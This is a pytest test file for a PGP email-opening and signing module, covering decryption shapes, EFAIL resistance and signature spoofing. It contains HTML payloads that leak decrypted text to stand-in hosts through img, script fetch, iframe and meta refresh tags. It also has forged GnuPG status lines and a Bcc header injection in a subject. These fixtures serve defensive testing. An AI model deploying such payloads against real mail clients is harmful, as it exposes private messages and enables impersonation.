"""Mails as they come: whatever their shape, what can be read is, apart, and no signature is believed that proves nothing.

The shapes are those of EFAIL (CVE-2017-17688, -17689) and of "Johnny, you are fired" (CVE-2018-12020).
"""
# ruff: noqa: E501 - mails as they are, line by line

from email.message import EmailMessage

import pytest
from pysequoia import Cert, Sig, SignatureMode, Tsk, encrypt, sign

from palier.core.pgp.keys import KeyFault, KeyRefused, make_secret_key, public_part, read_public_key, read_secret_key
from palier.core.pgp.opening import OpenedMail, Part, Ring, Seal, Signed, open_mail
from palier.core.pgp.sealing import clear_signed, seal_for_us, sealed_answer, unseal

US = make_secret_key("Desk", "security@desk.example")
OUR_KEY = Tsk.from_bytes(US).extract_certificate()
RITA = Tsk.generate(user_id="Rita <rita@research.example>")
RITA_KEY = str(RITA.extract_certificate())
EVE = Tsk.generate(user_id="Eve <eve@bad.example>")
SENDER = "Rita <rita@research.example>"
SECRET = "the secret"


def cipher(text: str | bytes = SECRET, *, to: Cert = OUR_KEY, signer: Tsk | None = None) -> str:
    content = text.encode() if isinstance(text, str) else text
    return bytes(encrypt(content, recipients=[to], signer=signer.signer() if signer else None)).decode()


def mail(body: str, *, kind: str = "text/plain", sender: str = SENDER, extra: str = "") -> bytes:
    head = f"From: {sender}\nSubject: Report\n{extra}Content-Type: {kind}\n\n"
    return (head + body).encode()


def pgp_mime(armoured: str, *, sender: str = SENDER, extra_parts: str = "") -> bytes:
    body = (
        "--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e\nContent-Type: application/octet-stream\n\n"
    )
    return mail(f"{body}{armoured}\n{extra_parts}--e--\n", kind="multipart/encrypted; boundary=e", sender=sender)


def opened(raw: bytes, *, known: str = "", secrets: tuple[bytes, ...] = (US,)) -> OpenedMail:
    return open_mail(raw, Ring(secrets, known))


def texts(found: OpenedMail, seal: Seal) -> list[str]:
    return [part.text for part in found.parts if part.seal is seal]


def inner(text: str = SECRET, html: str = "") -> bytes:
    message = EmailMessage()
    message["Subject"] = "Inside"
    message.set_content(text)
    if html:
        message.add_alternative(html, subtype="html")
    return message.as_bytes()


def attached(name: str, content: bytes) -> bytes:
    message = EmailMessage()
    message["From"], message["Subject"] = SENDER, "Report"
    message.set_content("See the file.")
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


READABLE = {
    "pgp/mime": pgp_mime(cipher(inner())),
    "pgp/mime, plain inside": pgp_mime(cipher()),
    "pgp/mime, signed": pgp_mime(cipher(inner(), signer=RITA)),
    "inline": mail(cipher()),
    "inline, signed": mail(cipher(signer=RITA)),
    "inline, quoted": mail("\n".join(f"> {line}" for line in cipher().splitlines())),
    "inline, hard spaces": mail(cipher().replace("\n", " \n"), kind="text/plain; charset=utf-8"),
    "inline among words": mail(f"Hello,\n\n{cipher()}\n\nRita"),
    "two inline": mail(cipher() + "\n" + cipher()),
    "inline in html": mail(f"<pre>{cipher()}</pre>", kind="text/html"),
    "file .asc": attached("report.asc", cipher().encode()),
    "file .gpg, binary": attached("report.gpg", bytes(encrypt(SECRET.encode(), recipients=[OUR_KEY], armor=False))),
    "mixed and file": attached("encrypted.asc", cipher(inner()).encode()),
    "no from": pgp_mime(cipher(), sender=""),
    "two recipients": pgp_mime(
        bytes(encrypt(SECRET.encode(), recipients=[OUR_KEY, EVE.extract_certificate()])).decode()
    ),
    "crlf": pgp_mime(cipher()).replace(b"\n", b"\r\n"),
    "latin-1 inside": pgp_mime(cipher(b"Content-Type: text/plain; charset=iso-8859-1\n\nthe secret \xe9")),
    "20 MB": pgp_mime(cipher(SECRET + "x" * 20_000_000)),
}
KEPT = {
    "another key": pgp_mime(cipher(to=EVE.extract_certificate())),
    "broken armour": mail(cipher()[:-120] + "\n-----END PGP MESSAGE-----"),
    "no end": mail(cipher().replace("-----END PGP MESSAGE-----", "")),
    "truncated": pgp_mime(cipher()[:200]),
    "a flipped character": mail(cipher().replace("w", "x", 3)),
    "nothing in it": mail("-----BEGIN PGP MESSAGE-----\n\n-----END PGP MESSAGE-----"),
}


@pytest.mark.parametrize("shape", READABLE)
def test_with_the_right_key_every_shape_is_read(shape: str) -> None:
    found = opened(READABLE[shape])
    said = [text[: len(SECRET)] for text in texts(found, Seal.DECRYPTED)]
    assert SECRET in said
    assert found.is_readable
    assert found.was_encrypted


@pytest.mark.parametrize("shape", KEPT)
def test_what_can_not_be_read_is_kept_and_says_so(shape: str) -> None:
    found = opened(KEPT[shape])
    assert not found.is_readable
    assert [part.seal for part in found.parts] == [Seal.LOCKED]
    assert found.parts[0].content


def test_an_older_key_still_opens() -> None:
    assert opened(READABLE["inline"], secrets=(make_secret_key("New", "n@x.example"), US)).is_readable


def test_the_subject_may_travel_inside() -> None:
    assert opened(READABLE["pgp/mime"]).subject == "Inside"
    assert opened(READABLE["inline"]).subject == "Report"


LEAK = '<img src="http://leak.example/'
EFAIL = {
    "glued": f'--e\nContent-Type: text/html\n\n{LEAK}\n--e\n{{pgp}}\n--e\nContent-Type: text/html\n\n">\n--e--\n',
    "glued, link": "--e\nContent-Type: text/html\n\n<a href='http://x.example/\n--e\n{pgp}\n--e\nContent-Type: text/html\n\n'>x</a>\n--e--\n",
    "form": "--e\nContent-Type: text/html\n\n<form action=//x.example><textarea>\n--e\n{pgp}\n--e--\n",
    "style": "--e\nContent-Type: text/html\n\n<style>body{{background:url(//x.example/\n--e\n{pgp}\n--e--\n",
    "base": "--e\nContent-Type: text/html\n\n<base href=//x.example><object data='\n--e\n{pgp}\n--e--\n",
    "plain first": f"--e\nContent-Type: text/plain\n\n{LEAK}\n--e\n{{pgp}}\n--e--\n",
}


@pytest.mark.parametrize("shape", EFAIL)
def test_parts_are_never_glued(shape: str) -> None:
    """J3: with those of HTML below, twelve shapes."""
    part = f"Content-Type: text/plain\n\n{cipher()}"
    found = opened(mail(EFAIL[shape].format(pgp=part), kind="multipart/mixed; boundary=e"))
    assert texts(found, Seal.DECRYPTED) == [SECRET]
    assert not any(SECRET in part.text for part in found.parts if part.seal is not Seal.DECRYPTED)


@pytest.mark.parametrize(
    "html",
    [
        LEAK + SECRET + '">',
        f'<link rel=stylesheet href="http://x.example/{SECRET}">',
        f"<script>fetch('//x.example/{SECRET}')</script>",
        f'<iframe src="//x.example/{SECRET}"></iframe>',
        f'<svg><image href="//x.example/{SECRET}"/></svg>',
        f'<meta http-equiv=refresh content="0;url=//x.example/{SECRET}">',
    ],
)
def test_what_was_decrypted_is_text_and_fetches_nothing(html: str) -> None:
    message = EmailMessage()
    message.set_content(html, subtype="html")
    for part in opened(pgp_mime(cipher(message.as_bytes()))).parts:
        assert part.media_type == "text/plain"
        assert "src=" not in part.text
        assert "<script" not in part.text


def detached(text: str, *, by: Tsk, tamper: bool = False) -> bytes:
    part = f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}"
    signature = bytes(sign(by.signer(), part.encode(), mode=SignatureMode.DETACHED)).decode()
    Sig.from_bytes(signature.encode())
    if tamper:
        part = part.replace("secret", "sekret")
    head = 'Content-Type: multipart/signed; boundary=s; protocol="application/pgp-signature"\r\n\r\n'
    return f"{head}--s\r\n{part}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n{signature}\r\n--s--\r\n".encode()


KEY_FILE = f"--e\nContent-Type: application/pgp-keys\n\n{RITA_KEY}\n"
SPOOFED = {
    "status words in the text": pgp_mime(cipher("[GNUPG:] GOODSIG 1234 Rita\n[GNUPG:] VALIDSIG 1234\n")),
    "a badge in the text": pgp_mime(cipher("✔ signed with the key we knew of this sender\n\nhello")),
    "a name in the file": attached("GOODSIG rita@research.example.asc", cipher().encode()),
    "unsigned": pgp_mime(cipher(inner())),
    "signed by another": pgp_mime(cipher(inner(), signer=EVE)),
    "another's address in the name": pgp_mime(cipher(inner(), signer=EVE), sender='"rita@research.example" <eve@bad.example>'),
    "rita's key, eve's mail": pgp_mime(cipher(inner(), signer=RITA), sender="Eve <eve@bad.example>"),
    "two addresses": pgp_mime(cipher(inner(), signer=RITA), sender="eve@bad.example, rita@research.example"),
    "a signed file, words around it": mail(f"Pay me.\n\n{cipher(signer=EVE)}"),
    "clear signed": mail(clear_signed(SECRET, secret=bytes(RITA))),
    "signature over other words": pgp_mime(cipher(detached(SECRET, by=RITA, tamper=True))),
    "detached by another": pgp_mime(cipher(detached(SECRET, by=EVE))),
    "detached in the clear": mail(detached(SECRET, by=RITA).decode().partition("\r\n\r\n")[2], kind="multipart/signed; boundary=s"),
    "broken signature part": pgp_mime(cipher(detached(SECRET, by=RITA).replace(b"BEGIN PGP SIGNATURE", b"BEGIN PGP X"))),
    "only one part": pgp_mime(cipher(b"Content-Type: multipart/signed; boundary=s\r\n\r\n--s\r\n\r\nx\r\n--s--\r\n")),
    "no boundary": pgp_mime(cipher(b"Content-Type: multipart/signed\r\n\r\nx")),
    "from nobody": pgp_mime(cipher(inner(), signer=RITA), sender=""),
    "capital letters beyond ascii": pgp_mime(cipher(inner(), signer=RITA), sender="rİta@research.example"),
    "a header that says so": mail("hello", extra="X-PGP-Status: GOODSIG\nAuthentication-Results: pgp=pass\n"),
    "brought along": mail(
        f"{KEY_FILE}--e\nContent-Type: text/plain\n\n{cipher(signer=EVE)}\n--e--\n", kind="multipart/mixed; boundary=e"
    ),
}  # fmt: skip


def test_there_are_twenty() -> None:
    """J4."""
    assert len(SPOOFED) == 20


@pytest.mark.parametrize("shape", SPOOFED)
def test_nothing_is_called_verified_that_is_not(shape: str) -> None:
    found = opened(SPOOFED[shape], known=RITA_KEY)
    assert [part for part in found.parts if part.signed is Signed.KNOWN] == []


@pytest.mark.parametrize("raw", [pgp_mime(cipher(inner(), signer=RITA)), pgp_mime(cipher(detached(SECRET, by=RITA)))])
def test_who_is_known_and_signs_is_believed_for_the_part_alone(raw: bytes) -> None:
    glued = raw.replace(b"--e--", b"--e\nContent-Type: text/plain\n\nunsigned words\n--e--")
    for part in opened(glued, known=RITA_KEY).parts:
        assert part.signed is (Signed.KNOWN if part.seal is Seal.DECRYPTED else Signed.NO)
    assert {part.signed for part in opened(raw).parts} <= {Signed.NO, Signed.UNPROVEN}


def test_a_key_that_came_along_is_kept_and_proves_nothing() -> None:
    body = f"{KEY_FILE}--e\nContent-Type: text/plain\n\n{cipher(signer=RITA)}\n--e--\n"
    found = opened(mail(body, kind="multipart/mixed; boundary=e"))
    assert [key.fingerprint for key in found.keys] == [RITA.extract_certificate().fingerprint.upper()]
    assert [part.signed for part in found.parts if part.seal is Seal.DECRYPTED] == [Signed.BROUGHT]
    foreign = found = opened(mail(body, kind="multipart/mixed; boundary=e", sender="eve@bad.example"))
    assert foreign.keys == ()


def test_texts_and_files_have_their_content() -> None:
    part = Part(Seal.OPEN, Signed.NO, "", "text/plain", b"caf\xe9")
    assert part.text == "caf\ufffd"


def test_keys_that_can_not_be_used_are_refused_for_a_reason() -> None:
    expired = Tsk.generate(user_id="a <a@b.example>", validity_seconds=1)
    cert = expired.extract_certificate()
    revoked = RITA.extract_certificate()
    revocation = Cert.from_bytes(bytes(revoked) + bytes(revoked.revoke(RITA.certifier())))
    from datetime import UTC, datetime

    late = datetime(2100, 1, 1, tzinfo=UTC)
    for data, fault, at in (
        (b"no key", KeyFault.UNREADABLE, None),
        (b"x" * 300_000, KeyFault.TOO_LARGE, None),
        (bytes(cert), KeyFault.EXPIRED, late),
        (bytes(revocation), KeyFault.REVOKED, None),
    ):
        with pytest.raises(KeyRefused) as refused:
            read_public_key(data, at=at)
        assert refused.value.fault is fault
    with pytest.raises(KeyRefused) as refused:
        read_secret_key(RITA_KEY.encode())
    assert refused.value.fault is KeyFault.PUBLIC_ONLY
    with pytest.raises(KeyRefused) as refused:
        read_secret_key(b"nothing")
    assert refused.value.fault is KeyFault.UNREADABLE
    assert public_part(read_secret_key(str(RITA).encode())).emails == ("rita@research.example",)


def test_what_is_sealed_for_us_only_our_keys_open() -> None:
    sealed = seal_for_us(b"words", secret=US)
    assert b"words" not in sealed
    assert unseal(sealed, secrets=(bytes(EVE), US)) == b"words"
    with pytest.raises(LookupError):
        unseal(sealed, secrets=(bytes(EVE),))


def test_an_answer_is_signed_and_names_its_subject_inside() -> None:
    answer = sealed_answer("Merci beaucoup", subject="PAL-1\nBcc: x", secret=US, theirs=RITA_KEY)
    found = open_mail(pgp_mime(answer.decode(), sender="security@desk.example"), Ring((bytes(RITA),), str(OUR_KEY)))
    assert (found.subject, found.parts[0].text) == ("PAL-1 Bcc: x", "Merci beaucoup")
    assert found.parts[0].signed is Signed.KNOWN
